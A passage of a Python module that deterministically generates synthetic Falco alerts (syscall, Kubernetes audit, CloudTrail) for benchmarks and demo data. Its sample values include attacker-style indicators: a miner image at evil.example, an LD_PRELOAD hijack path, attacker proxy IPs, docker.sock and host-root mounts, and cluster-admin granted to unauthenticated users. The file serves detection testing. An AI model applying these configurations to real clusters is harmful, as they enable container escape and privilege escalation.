        elif resource == "namespaces":
            tname = ns
        else:
            tname = self._k8s_name(resource, wl)
        if inc.rule.name.startswith("System ClusterRole"):
            tname = _pick(rng, ("system:controller:daemon-set-controller", "system:node"))
        cluster = ctx["_cluster"]
        uri = _K8S_GROUPS.get(resource, "/api/v1")
        uri += ("" if cluster else f"/namespaces/{ns}") + f"/{resource}"
        if verb != "create" or sub:
            uri += f"/{tname}"
        cmd = None
        if sub:
            uri += f"/{sub}"
            if sub == "exec":
                cmd = _pick(rng, ("sh", "bash", "cat", "env"))
                cname = wl.cname if wl else "app"
                uri += f"?command={cmd}&container={cname}&stdin=true&stdout=true&tty=true"
        elif verb == "create" and rng.random() < 0.5:
            uri += "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict"
        ctx["ka.auditid"] = _uuid4(rng)
        ctx["ka.uri"] = uri
        ctx["ka.target.namespace"] = None if cluster else ns
        ctx["ka.target.name"] = tname
        ctx["ka.uri.param[command]"] = cmd
        ctx["_wl"] = wl
        for key in inc.special:
            ctx[key] = _K8S_SPECIAL[key](self, ctx, inc)
        return ctx

    @staticmethod
    def _app(wl: _Workload | None) -> str:
        """The app owning a pod: ``web-7d9f4c8b5x-x2x9q`` -> ``web``, ``redis-0`` -> ``redis``."""
        if wl is None or not wl.pod:
            return "web"
        parts = wl.pod.split("-")
        if len(parts) > 2 and len(parts[-2]) == 10 and len(parts[-1]) == 5:
            return "-".join(parts[:-2])  # Deployment: <name>-<replicaset hash>-<suffix>
        return "-".join(parts[:-1])  # DaemonSet <name>-<suffix>, StatefulSet <name>-<ordinal>

    def _k8s_name(self, resource: str, wl: _Workload | None) -> str:
        rng = self.rng
        app = self._app(wl)
        if resource == "secrets":
            return _pick(rng, (f"{app}-db-credentials", f"sh.helm.release.v1.{app}.v12", "regcred"))
        if resource == "configmaps":
            return _pick(rng, (f"{app}-config", "kube-root-ca.crt", "aws-auth"))
        if resource == "serviceaccounts":
            return _pick(rng, ("deployer", "default", f"{app}-sa"))
        if resource in ("deployments", "services", "ingresses"):
            return _pick(rng, (app, f"{app}-canary", f"{app}-public"))
        if resource == "roles":
            return _pick(rng, ("pod-exec", "ns-editor"))
        if resource == "clusterroles":
            return _pick(rng, ("cluster-admin-lite", "pod-reader-all", "ci-deployer"))
        if resource == "rolebindings":
            return _pick(rng, (f"{app}-editors", "pod-exec-binding"))
        if resource == "clusterrolebindings":
            return _pick(rng, ("pwn-" + _token(rng, 5), "ci-deployer-admin"))
        if resource == "nodes":
            return f"ip-10-0-{_between(rng, 1, 254)}-{_between(rng, 1, 254)}.ec2.internal"
        if resource == "events":
            return f"{app}.18051c0a8871{_hex(rng, 4)}"
        return app

    # -- CloudTrail ----------------------------------------------------------------------

    def _ct_base(self, inc: _Incident) -> dict[str, Any]:
        """One identity, source address and region per CloudTrail incident."""
        rng, name = self.rng, inc.rule.name
        event = _CT_EVENT.get(name, "ConsoleLogin")
        if "root" in name.lower():
            identity, user = "Root", "root"
            arn, principal = f"arn:aws:iam::{self.account}:root", self.account
        elif "Assume Role" in name or rng.random() < 0.4:
            who = _pick(rng, ("alice", "bob"))
            identity, user = "AssumedRole", f"{self.sso_role}/{who}@acme.example"
            arn = f"arn:aws:sts::{self.account}:assumed-role/{user}"
            principal = f"AROA{_token(rng, 17, _UPPER32)}:{who}@acme.example"
        else:
            identity, user = "IAMUser", _pick(rng, self.ct_users)
            arn = f"arn:aws:iam::{self.account}:user/{user}"
            principal = f"AIDA{_token(rng, 17, _UPPER32)}"
        region = _pick(rng, ("us-east-1", "us-east-1", "eu-west-1", "eu-central-1", "us-west-2"))
        if name == "Run Instances in Non-approved Region":
            region = _pick(rng, ("ap-east-1", "me-south-1", "sa-east-1"))
        if event == "ConsoleLogin":
            agent = _CONSOLE_AGENT
        else:
            agent = _pick(rng, _CT_AGENTS).replace("{event}", event)
        return {
            "ct.name": event,
            "ct.user": user,
            "ct.user.arn": arn,
            "ct.user.principalid": principal,
            "ct.user.accountid": self.account,
            "ct.user.identitytype": identity,
            "ct.srcip": _pick(rng, (*_ATTACKER_IPS, "198.51.100.10", "198.51.100.10")),
            "ct.region": region,
            "ct.useragent": agent,
        }

    def ct_ctx(self, inc: _Incident, t: int) -> dict[str, Any]:
        """One CloudTrail event of the incident: a new event id and request parameters."""
        ctx = dict(inc.base)
        ctx["evt.time"] = t
        ctx["ct.id"] = _uuid4(self.rng)
        ctx["_bucket"] = _pick(self.rng, _BUCKETS)
        for key in inc.special:
            ctx[key] = _CT_SPECIAL[key](self, ctx, inc)
        return ctx


_K8S_PLURALS = {
    "serviceaccount": "serviceaccounts",
    "clusterrolebinding": "clusterrolebindings",
    "rolebinding": "rolebindings",
    "clusterrole": "clusterroles",
    "configmap": "configmaps",
}
_K8S_CLUSTER_SCOPED = frozenset(("namespaces", "nodes", "clusterroles", "clusterrolebindings"))
_K8S_GROUPS = {
    "deployments": "/apis/apps/v1",
    "roles": "/apis/rbac.authorization.k8s.io/v1",
    "clusterroles": "/apis/rbac.authorization.k8s.io/v1",
    "rolebindings": "/apis/rbac.authorization.k8s.io/v1",
    "clusterrolebindings": "/apis/rbac.authorization.k8s.io/v1",
    "ingresses": "/apis/networking.k8s.io/v1",
}
_RBAC_REASON = (
    'RBAC: allowed by ClusterRoleBinding "cluster-admin" of ClusterRole "cluster-admin" to Group '
    '"system:masters"'
)
_ANON_REASON = (
    'RBAC: allowed by ClusterRoleBinding "anonymous-view" of ClusterRole "view" to User "system:anonymous"'
)
_K8S_AGENTS = (
    "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46",
    "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46",
    "argocd-application-controller/v0.0.0 (linux/amd64) kubernetes/$Format",
    "helm/v3.16.2 (linux/amd64)",
    "Go-http-client/2.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Lens/2024.11.0 "
    "Chrome/128.0.6613.186 Electron/32.2.0 Safari/537.36",
)
_UPPER32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
_CONSOLE_AGENT = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Safari/605.1.15"
)
_CT_AGENTS = (
    "aws-cli/2.22.4 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0 md/arch#x86_64 lang/python#3.12.6 "
    "md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.24 "
    "md/prompt#off command/{event}",
    "Boto3/1.35.68 md/Botocore#1.35.68 ua/2.0 os/linux#6.1.115 md/arch#x86_64 lang/python#3.12.7 "
    "md/pyimpl#CPython cfg/retry-mode#legacy",
    "APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.78.0",
)
_BUCKETS = ("acme-prod-backups", "acme-cloudtrail-logs", "acme-static-assets")


def _bucket_policy(g: _Gen, ctx: dict[str, Any], inc: _Incident) -> str:
    statement = {
        "Sid": "PublicRead",
        "Effect": "Allow",
        "Principal": "*",
        "Action": ["s3:GetObject"],
        "Resource": [f"arn:aws:s3:::{ctx['_bucket']}/*"],
    }
    return json.dumps({"Version": "2012-10-17", "Statement": [statement]}, separators=(",", ":"))


def _audit_obj(g: _Gen, ctx: dict[str, Any], inc: _Incident) -> str:
    """The whole audit event as JSON text, as ``%jevt.obj`` renders it."""
    event = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Metadata",
        "auditID": ctx["ka.auditid"],
        "stage": "ResponseComplete",
        "requestURI": ctx["ka.uri"],
        "verb": ctx["ka.verb"],
        "user": {"username": ctx["ka.user.name"], "groups": ["system:authenticated"]},
        "sourceIPs": [ctx["ka.sourceips"][1:-1]],
        "userAgent": ctx["ka.useragent"],
        "objectRef": {
            "resource": ctx["ka.target.resource"],
            "namespace": ctx["ka.target.namespace"],
            "name": ctx["ka.target.name"],
        },
        "responseStatus": {"metadata": {}, "code": int(ctx["ka.response.code"])},
    }
    return json.dumps(event, separators=(",", ":"))


def _pod_images(g: _Gen, ctx: dict[str, Any], inc: _Incident) -> str:
    if "Disallowed" in inc.rule.name or "Privileged" in inc.rule.name:
        return _pick(g.rng, ("(docker.io/library/alpine:latest)", "(evil.example/miner:1.0)"))
    wl = ctx["_wl"]
    return f"({wl.repo}:{wl.tag})" if wl else "(nginx:latest)"


def _binding_subjects(g: _Gen, ctx: dict[str, Any], inc: _Incident) -> str:
    if inc.rule.name == "Cluster-admin Bound to Anonymous Group":
        return _SUBJECTS[1]
    return _pick(g.rng, _SUBJECTS)


_SUBJECTS = (
    '[{"kind":"ServiceAccount","name":"default","namespace":"default"}]',
    '[{"apiGroup":"rbac.authorization.k8s.io","kind":"Group","name":"system:unauthenticated"}]',
    '[{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"mallory@contractor.example"}]',
)
_ROLE_RULES = (
    '[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]',
    '[{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create","get"]}]',
    '[{"apiGroups":["apps"],"resources":["deployments"],"verbs":["create","update","patch","delete"]}]',
)
_VOLUMES = (
    '[{"hostPath":{"path":"/var/run/docker.sock","type":""},"name":"dockersock"}]',
    '[{"hostPath":{"path":"/","type":"Directory"},"name":"host-root"}]',
    '[{"hostPath":{"path":"/etc","type":""},"name":"etc"}]',
)

_Special = Callable[[_Gen, dict[str, Any], _Incident], Any]

_K8S_ALWAYS = frozenset(
    re.findall(
        r"\S+",
        "evt.time ka.auditid ka.user.name ka.verb ka.uri ka.target.resource ka.target.namespace "
        "ka.target.name ka.target.subresource ka.uri.param[command] ka.response.code "
        "ka.response.reason ka.auth.decision ka.auth.reason ka.sourceips ka.useragent",
    )
)
_K8S_SPECIAL: dict[str, _Special] = {
    "ka.resp.name": lambda g, c, i: (
        c["ka.target.name"]
        or f"{g._app(c['_wl'])}-{_token(g.rng, 10, _RS_ALPHABET)}-{_token(g.rng, 5, _RS_ALPHABET)}"
    ),
    "ka.req.pod.containers.image": _pod_images,
    "ka.req.pod.initContainers.image": lambda g, c, i: None,
    "ka.req.pod.ephemeralContainers.image": lambda g, c, i: None,
    "ka.req.service.ports": lambda g, c, i: (
        f'[{{"nodePort":{_between(g.rng, 30000, 32767)},"port":80,"protocol":"TCP","targetPort":8080}}]'
    ),
    "ka.req.configmap.name": lambda g, c, i: c["ka.target.name"],
    "ka.req.role.rules": lambda g, c, i: _pick(g.rng, _ROLE_RULES),
    "ka.req.binding.subjects": _binding_subjects,
    "ka.req.binding.role": lambda g, c, i: "cluster-admin",
    "jevt.value[/requestObject/spec/volumes]": lambda g, c, i: _pick(g.rng, _VOLUMES),
    "jevt.value[/requestObject/ephemeralContainers/0/name]": lambda g, c, i: "debugger-" + _token(g.rng, 5),
    "jevt.value[/requestObject/ephemeralContainers/0/image]": lambda g, c, i: _pick(
        g.rng, ("busybox:1.36", "nicolaka/netshoot:v0.13", "docker.io/library/alpine:3.20")
    ),
    "jevt.obj": _audit_obj,
}
_CT_ALWAYS = frozenset(
    re.findall(
        r"\S+",
        "evt.time ct.id ct.name ct.user ct.user.arn ct.user.principalid ct.user.accountid "
        "ct.user.identitytype ct.srcip ct.region ct.useragent",
    )
)
_CT_SPECIAL: dict[str, _Special] = {
    "ct.request.serialnumber": lambda g, c, i: f"arn:aws:iam::{g.account}:mfa/root-account-mfa-device",
    "ct.request.username": lambda g, c, i: _pick(g.rng, ("backup-admin", "svc-" + _token(g.rng, 6), "temp")),
    "ct.request.groupname": lambda g, c, i: _pick(g.rng, ("Admins-2", "break-glass", "contractors")),
    "ct.request.cluster": lambda g, c, i: _pick(g.rng, ("prod-ecs", "batch")),
    "ct.request.servicename": lambda g, c, i: _pick(g.rng, ("api", "worker-" + _token(g.rng, 4))),
    "ct.request.taskdefinition": lambda g, c, i: f"batch-worker:{_between(g.rng, 3, 60)}",
    "ct.request.functionname": lambda g, c, i: _pick(
        g.rng, ("thumbnailer", "billing-export", "slack-notifier")
    ),
    "ct.request.availabilityzone": lambda g, c, i: c["ct.region"] + _pick(g.rng, "abc"),
    "ct.request.policy": _bucket_policy,
    "ct.request.name": lambda g, c, i: _pick(
        g.rng,
        ("org-trail", f"arn:aws:cloudtrail:{c['ct.region']}:{g.account}:trail/management-events"),
    ),
    "ct.response.subnetid": lambda g, c, i: f"subnet-{_hex(g.rng, 17)}",
    "ct.response.reservationid": lambda g, c, i: f"r-{_hex(g.rng, 17)}",
    "json.value[/responseElements/instancesSet/items/0/instanceId]": lambda g, c, i: "i-" + _hex(g.rng, 17),
    "s3.bucket": lambda g, c, i: c["_bucket"],
}


_CT_EVENT = {
    "Console Login Through Assume Role": "ConsoleLogin",
    "Console Login Without MFA": "ConsoleLogin",
    "Console Root Login Without MFA": "ConsoleLogin",
    "Deactivate MFA for Root User": "DeactivateMFADevice",
    "Create AWS user": "CreateUser",
    "Create Group": "CreateGroup",
    "Delete Group": "DeleteGroup",
    "ECS Service Created": "CreateService",
    "ECS Task Run or Started": "RunTask",
    "Create Lambda Function": "CreateFunction20150331",
    "Update Lambda Function Code": "UpdateFunctionCode20150331v2",
    "Update Lambda Function Configuration": "UpdateFunctionConfiguration20150331v2",
    "Run Instances": "RunInstances",
    "Run Instances in Non-approved Region": "RunInstances",
    "Delete Bucket Encryption": "DeleteBucketEncryption",
    "Delete Bucket Public Access Block": "DeleteBucketPublicAccessBlock",
    "Put Bucket ACL": "PutBucketAcl",
    "Put Bucket Policy": "PutBucketPolicy",
    "CloudTrail Trail Created": "CreateTrail",
    "CloudTrail Logging Disabled": "StopLogging",
    "AWS Root Account Used for API Call": "CreateAccessKey",
}


# --------------------------------------------------------------------------------------------
# Syscall fields that only some rules use
# --------------------------------------------------------------------------------------------

_CAPS = (
    "CAP_CHOWN CAP_DAC_OVERRIDE CAP_DAC_READ_SEARCH CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID "
    "CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_ADMIN CAP_NET_RAW CAP_SYS_MODULE "
    "CAP_SYS_RAWIO CAP_SYS_CHROOT CAP_SYS_PTRACE CAP_SYS_ADMIN CAP_SYS_BOOT CAP_SYS_NICE "
    "CAP_SYS_RESOURCE CAP_SYS_TIME CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP CAP_MAC_ADMIN "
    "CAP_SYSLOG CAP_BPF CAP_PERFMON CAP_CHECKPOINT_RESTORE"
)


def _flags(g: _Gen, ctx: dict[str, Any], inc: _Incident) -> str:
    evt = ctx["evt.type"]
    if evt == "execve":
        return _pick(
            g.rng, ("EXE_WRITABLE|EXE_LOWER_LAYER", "EXE_WRITABLE|EXE_UPPER_LAYER", "EXE_LOWER_LAYER")
        )
    if evt in ("open", "openat"):
        if "read" in inc.rule.name.lower():
            return "O_RDONLY|O_CLOEXEC"
        return "O_LARGEFILE|O_TRUNC|O_CREAT|O_WRONLY|O_F_CREATED|FD_UPPER_LAYER"
    return "0"


def _traversal(g: _Gen, ctx: dict[str, Any], inc: _Incident) -> str | None:
    f = ctx.get("fd.name")
    if not f:
        return f
    head, _, tail = f.rpartition("/")
    return f"{head}/../{head.lstrip('/')}/../{head.lstrip('/')}/{tail}" if head else f


def _proc_args(g: _Gen, ctx: dict[str, Any], inc: _Incident) -> str:
    return ctx["proc.cmdline"].partition(" ")[2]


def _exe_ino(g: _Gen, ctx: dict[str, Any], inc: _Incident) -> int:
    return ctx["evt.time"] - _between(g.rng, 1_000_000, 900_000_000)


_SPECIAL: dict[str, _Special] = {
    "evt.arg.flags": _flags,
    "evt.res": lambda g, c, i: "SUCCESS",
    "evt.args": lambda g, c, i: (
        c.get("_args")
        or f"res=0 olddirfd=-100(AT_FDCWD) oldpath={c['fd.name']} newdirfd=-100(AT_FDCWD) "
        f"newpath={c['_path2']}"
    ),
    "evt.arg.target": lambda g, c, i: c["fd.name"],
    "evt.arg.oldpath": lambda g, c, i: c["fd.name"],
    "evt.arg.linkpath": lambda g, c, i: c["_path2"],
    "evt.arg.newpath": lambda g, c, i: c["_path2"],
    "evt.arg.name": lambda g, c, i: c["_path2"],
    "evt.arg.path": lambda g, c, i: c["_path2"],
    "evt.arg.filename": lambda g, c, i: c["_path2"],
    "evt.arg.fd": lambda g, c, i: _between(g.rng, 3, 40),
    "evt.arg.mode": lambda g, c, i: "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID",
    "evt.arg.cmd": lambda g, c, i: _pick(g.rng, ("BPF_PROG_LOAD", "BPF_MAP_CREATE")),
    "evt.arg.uid": lambda g, c, i: "0(<NA>)",
    "fd.nameraw": _traversal,
    "fd.lport": lambda g, c, i: c.get("fd.lport"),
    "fd.rport": lambda g, c, i: c.get("fd.rport"),
    "fd.type": lambda g, c, i: c.get("fd.type", "<NA>"),
    "fd.l4proto": lambda g, c, i: c.get("fd.l4proto", "<NA>"),
    "fd.sip": lambda g, c, i: c.get("fd.sip"),
    "fd.sip.name": lambda g, c, i: None,
    "fd.rip.name": lambda g, c, i: None,
    "fd.lip.name": lambda g, c, i: None,
    "fd.cip.name": lambda g, c, i: None,
    "proc.aname[5]": lambda g, c, i: None,
    "proc.aname[6]": lambda g, c, i: None,
    "proc.aname[7]": lambda g, c, i: None,
    "proc.aexepath[2]": lambda g, c, i: c["proc.aname[2]"] and f"/usr/bin/{c['proc.aname[2]']}",
    "proc.pexe": lambda g, c, i: c["_pexe"],
    "proc.pexepath": lambda g, c, i: c["_pexe"],
    "proc.sname": lambda g, c, i: c["proc.aname[2]"] or c["proc.pname"],
    "proc.exe": lambda g, c, i: c["proc.cmdline"].split(" ", 1)[0],
    "proc.args": _proc_args,
    "proc.cwd": lambda g, c, i: _pick(g.rng, ("/", "/app", "/root", "/tmp", "/var/www/html")),
    "proc.env": lambda g, c, i: (
        "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin HOSTNAME="
        f"{c['k8s.pod.name'] or i.host.name} HOME=/root HTTP_PROXY=http://{_pick(g.rng, _ATTACKER_IPS)}"
        ":3128 LD_PRELOAD=/tmp/.l/libx.so KUBERNETES_SERVICE_HOST=10.96.0.1"
    ),
    "proc.exe_ino.ctime": _exe_ino,
    "proc.exe_ino.mtime": _exe_ino,
    "proc.exe_ino.ctime_duration_proc_start": lambda g, c, i: _between(g.rng, 200_000, 5_000_000),
    "container.start_ts": lambda g, c, i: c["evt.time"] - i.wl.age_ns if i.wl else None,
    "container.mounts": lambda g, c, i: (
        "/var/run/docker.sock:/var/run/docker.sock::true:rprivate,"
        "/etc:/host/etc::true:rprivate,/proc:/host/proc:ro:false:rprivate"
    ),
    "thread.cap_effective": lambda g, c, i: _CAPS,
    "thread.cap_permitted": lambda g, c, i: _CAPS,
    "group.gid": lambda g, c, i: c["user.uid"] if c["user.uid"] < 1000 else 1000,
    "group.name": lambda g, c, i: c["user.name"],
    "user.loginname": lambda g, c, i: "ubuntu" if c["user.loginuid"] == 1000 else "<NA>",
}

_COVERED = {
    "syscall": _SYSCALL_STANDARD | set(_SPECIAL),
    "k8s_audit": _K8S_ALWAYS | set(_K8S_SPECIAL),
    "aws_cloudtrail": _CT_ALWAYS | set(_CT_SPECIAL),
}
_missing = sorted(
    {f"{r.source}:{k}" for r in RULES for k in r.keys}
    - {f"{src}:{k}" for src, keys in _COVERED.items() for k in keys}
)
if _missing:  # fail at import, not halfway through a million alerts
    raise RuntimeError(f"benchmarks/synth.py: no value generator for fields {_missing}")

# Fields whose values must be refreshed per event even in an exact repeat.
_EVENT_IDS = {"k8s_audit": "ka.auditid", "aws_cloudtrail": "ct.id"}
# Fields computed from evt.time, refreshed for repeats too.
_TIME_DERIVED = ("container.start_ts", "proc.exe_ino.ctime", "proc.exe_ino.mtime")


# --------------------------------------------------------------------------------------------
# Public API
# --------------------------------------------------------------------------------------------


def generate(
    count: int,
    seed: int = 0,
    start: datetime = DEFAULT_START,
    days: int = 7,
    hosts: int = 20,
) -> Iterator[Alert]:
    """Yield ``count`` Falco alerts (json_output shape) in increasing ``time`` order.

    The same arguments always produce the same alerts, so benchmark inputs need not be committed.
    """
    if count < 0:
        raise ValueError(f"count must be >= 0, got {count}")
    if days < 1:
        raise ValueError(f"days must be >= 1, got {days}")
    if hosts < 1:
        raise ValueError(f"hosts must be >= 1, got {hosts}")
    if start.tzinfo is None:
        raise ValueError("start must be timezone-aware (UTC)")
    start_ns = int(start.timestamp()) * _NS + start.microsecond * 1000
    return _run(_Gen(seed, hosts), count, start_ns, days * 86400 * _NS)


def _run(g: _Gen, count: int, start_ns: int, span_ns: int) -> Iterator[Alert]:
    """The hot loop: incidents in time order, each a burst of fresh or repeated events."""
    rng = g.rng
    rnd = rng.random
    sizes: list[int] = []
    total = 0
    while total < count:
        k = 1 if rnd() < 0.45 else min(60, 2 + int(rng.expovariate(0.22)))
        k = min(k, count - total)
        sizes.append(k)
        total += k
    n = len(sizes)
    offsets = sorted(rnd() for _ in range(n))
    last = start_ns - 1
    cur_s, iso, hms = -1, "", ""
    strftime, gmtime = _time.strftime, _time.gmtime
    for i, k in enumerate(sizes):
        t0 = start_ns + int(offsets[i] * span_ns)
        t_next = start_ns + int(offsets[i + 1] * span_ns) if i + 1 < n else start_ns + span_ns
        rule = g.pick_rule()
        inc = g.incident(rule)
        make = g.ctx_maker(inc)
        get_keys, get_shown = _getters(rule)
        keys, fmt_pos, q = rule.keys, rule.fmt_pos, inc.quantum
        prio, name, source, tags = rule.priority, rule.name, rule.source, rule.tags
        host, use_iso = inc.host.name, inc.host.iso
        id_key = _EVENT_IDS.get(source)
        time_derived = [key for key in _TIME_DERIVED if key in inc.special]
        # Burst timing: rapid-fire (event-generator), seconds, or a slow manual session.
        mean = _pick(rng, (0.05, 1.5, 1.5, 12.0, 45.0)) * _NS
        gaps = [int(rng.expovariate(1.0) * mean) + 1 for _ in range(k - 1)]
        budget = int((t_next - t0) * 0.8)
        spent = sum(gaps)
        if spent > budget:  # squeeze the burst in before the next incident starts
            gaps = [max(1, gap * budget // spent) for gap in gaps]
        p_repeat = _pick(rng, (0.0, 0.0, 0.2, 0.5))
        t = t0
        ctx: dict[str, Any] | None = None
        fields: dict[str, Any] = {}
        body = ""
        for j in range(k):
            if j:
                t += gaps[j - 1]
            if t <= last:
                t = last + 1
            if q != 1:
                t = -(-t // q) * q
            last = t
            if ctx is None or rnd() >= p_repeat:
                ctx = make(inc, t)
                fields = dict(zip(keys, get_keys(ctx), strict=True))
                shown = get_shown(ctx)
                if None in shown:
                    shown = tuple(["<NA>" if v is None else v for v in shown])
                body = fmt_pos % shown
            else:  # an exact repeat: same process/actor, only time and event ids move
                fields = dict(fields)
                fields["evt.time"] = t
                if id_key:
                    fields[id_key] = _uuid4(rng)
                if time_derived:
                    timed = {**ctx, "evt.time": t}
                    for key in time_derived:
                        fields[key] = _SPECIAL[key](g, timed, inc)
            s, frac = divmod(t, _NS)
            if s != cur_s:
                cur_s = s
                iso = strftime("%Y-%m-%dT%H:%M:%S", gmtime(s))
                hms = iso[11:]
            stamp = f"{iso}.{frac:09d}"
            head = stamp + "+0000" if use_iso else f"{hms}.{frac:09d}"
            output = f"{head}: {prio} {body}"
            if rnd() < 0.3:
                # Forwarded by falcosidekick: its Go struct field order, with a uuid first.
                yield {
                    "uuid": _uuid4(rng),
                    "output": output,
                    "priority": prio,
                    "rule": name,
                    "time": stamp + "Z",
                    "output_fields": fields,
                    "source": source,
                    "tags": list(tags),
                    "hostname": host,
                }
            else:  # Falco's own json_output: keys in alphabetical order
                yield {
                    "hostname": host,
                    "output": output,
                    "output_fields": fields,
                    "priority": prio,
                    "rule": name,
                    "source": source,
                    "tags": list(tags),
                    "time": stamp + "Z",
                }


_GETTERS: dict[str, tuple[Callable[[dict[str, Any]], tuple[Any, ...]], ...]] = {}


def _getters(rule: Rule) -> tuple[Callable[[dict[str, Any]], tuple[Any, ...]], ...]:
    """C-speed extractors for a rule's output_fields values and its message values."""
    got = _GETTERS.get(rule.name)
    if got is None:

        def getter(keys: tuple[str, ...]) -> Callable[[dict[str, Any]], tuple[Any, ...]]:
            if len(keys) == 1:
                (only,) = keys
                return lambda ctx: (ctx[only],)
            return operator.itemgetter(*keys)

        got = _GETTERS[rule.name] = (getter(rule.keys), getter(rule.fmt_fields))
    return got


# --------------------------------------------------------------------------------------------
# Writers
# --------------------------------------------------------------------------------------------

_UNSAFE = re.compile(r"[^A-Za-z0-9._-]")
_DAY = re.compile(r"^\d{4}-\d{2}-\d{2}$")


def dumps(alert: Alert) -> str:
    """Compact single-line JSON as Falco writes it (UTF-8, no escaping of non-ASCII)."""
    return json.dumps(alert, ensure_ascii=False, separators=(",", ":"))


def _safe_part(value: object, fallback: str) -> str:
    """A path component from hostile text: never empty, never ``.``/``..``, no separators."""
    text = _UNSAFE.sub("_", str(value))[:120]
    return fallback if text.strip(".") == "" else text


def _day_of(alert: Alert) -> str:
    day = str(alert.get("time", ""))[:10]
    return day if _DAY.match(day) else "unknown-day"


class _TextSink(Protocol):
    def write(self, text: str, /) -> int: ...
    def close(self) -> None: ...


class _Sink:
    """Open text streams keyed by path, so a million alerts stream without buffering."""

    def __init__(self) -> None:
        self.files: dict[Path, _TextSink] = {}

    def get(self, path: Path, gz: bool) -> _TextSink:
        fh: _TextSink | None = self.files.get(path)
        if fh is None:
            path.parent.mkdir(parents=True, exist_ok=True)
            if gz:
                raw = path.open("wb")
                # mtime=0 and no file name in the header: identical bytes run after run.
                zfile = gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0)
                fh = _GzText(zfile, raw)
            else:
                fh = path.open("w", encoding="utf-8", newline="\n")
            self.files[path] = fh
        return fh

    def close(self) -> list[Path]:
        for fh in self.files.values():
            fh.close()
        return sorted(self.files)


class _GzText:
    """Minimal text wrapper over a GzipFile that also closes the underlying file."""

    def __init__(self, zfile: gzip.GzipFile, raw: BinaryIO) -> None:
        self.zfile, self.raw = zfile, raw

    def write(self, text: str) -> int:
        return self.zfile.write(text.encode("utf-8"))

    def close(self) -> None:
        self.zfile.close()
        self.raw.close()


def write_alerts(alerts: Iterable[Alert], out_dir: Path, layout: str, seed: int = 0) -> list[Path]:
    """Write alerts under ``out_dir`` in one of ``LAYOUTS`` and return the files written.

    ``jsonl``: ``<host>/<YYYY-MM-DD>.jsonl`` (Falco file_output, one file per host per day);
    ``jsonl.gz``: the same, gzipped; ``s3``: falcosidekick's S3/GCS object layout
    ``falco/<YYYY-MM-DD>/<time>.json`` with one pretty object per file; ``mixed``: each
    host-day group goes, at random (seeded), to one of the three.
    """
    if layout not in LAYOUTS:
        raise ValueError(f"unknown layout {layout!r}; expected one of {', '.join(LAYOUTS)}")
    out_dir = Path(out_dir)
    rng = random.Random(seed)
    group_layout: dict[tuple[str, str], str] = {}
    sink = _Sink()
    s3_written: list[Path] = []
    s3_seen: set[Path] = set()
    try:
        for alert in alerts:
            host = _safe_part(alert.get("hostname") or "unknown-host", "unknown-host")
            day = _day_of(alert)
            chosen = layout
            if layout == "mixed":
                chosen = group_layout.get((host, day), "")
                if not chosen:
                    chosen = _pick(rng, ("jsonl", "jsonl", "jsonl.gz", "s3"))
                    group_layout[(host, day)] = chosen
            if chosen == "s3":
                path = _s3_path(out_dir, alert, day, s3_seen)
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(json.dumps(alert, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
                s3_written.append(path)
            else:
                gz = chosen == "jsonl.gz"
                path = out_dir / host / f"{day}.{chosen}"
                sink.get(path, gz).write(dumps(alert) + "\n")
    finally:
        written = sink.close()
    log.debug("Wrote %d files under %s (layout %s)", len(written) + len(s3_written), out_dir, layout)
    return sorted(written + s3_written)


_UNSAFE_S3 = re.compile(r"[^A-Za-z0-9.:_-]")


def _s3_path(out_dir: Path, alert: Alert, day: str, seen: set[Path]) -> Path:
    stem = _UNSAFE_S3.sub("_", str(alert.get("time") or ""))[:120].strip(".") or "unknown-time"
    base = out_dir / "falco" / day
    path = base / f"{stem}.json"
    n = 1
    while path in seen:
        path = base / f"{stem}-{n}.json"
        n += 1
    seen.add(path)
    return path


def demo_coverage(alerts: list[Alert]) -> list[str]:
    """What a demo alert set lacks for every aggregate page to have several entries ([] = ok).

    ``DEMO_SEED`` was picked as the first seed meeting these; any change to the generator that
    shifts its output must re-check them (``tests/test_synth.py`` does) and maybe re-pick it.
    """
    problems = []
    priorities = collections.Counter(a["priority"] for a in alerts)
    if scarce := [p for p in PRIORITIES if priorities[p] < 2]:
        problems.append(f"fewer than 2 alerts of priority {scarce}")
    if (rules := len({a["rule"] for a in alerts})) < 25:
        problems.append(f"only {rules} rules")
    for source in ("syscall", "k8s_audit", "aws_cloudtrail"):
        if (n := sum(a["source"] == source for a in alerts)) < 8:
            problems.append(f"only {n} {source} alerts")
    if (hosts := len({a["hostname"] for a in alerts})) < 5:
        problems.append(f"only {hosts} hosts")
    if (days := len({_day_of(a) for a in alerts})) < 7:
        problems.append(f"only {days} days")
    if not 10 <= (n := sum(_day_of(a) == DEMO_S3_DAY for a in alerts)) <= 40:
        problems.append(f"{n} alerts on the S3 day {DEMO_S3_DAY} (want 10-40)")
    return problems


def write_demo(out_dir: Path) -> list[Path]:
    """Write the committed synthetic demo input (``alerts/synthetic`` and ``alerts/s3``).

    Every alert lands in exactly one file. Formats: per-host-day JSON lines, one host-day
    gzipped, one pretty-printed single alert, one JSON array (the k8s audit plugin's alerts of
    one day), and a falcosidekick S3 tree for ``DEMO_S3_DAY``.
    """
    out_dir = Path(out_dir)
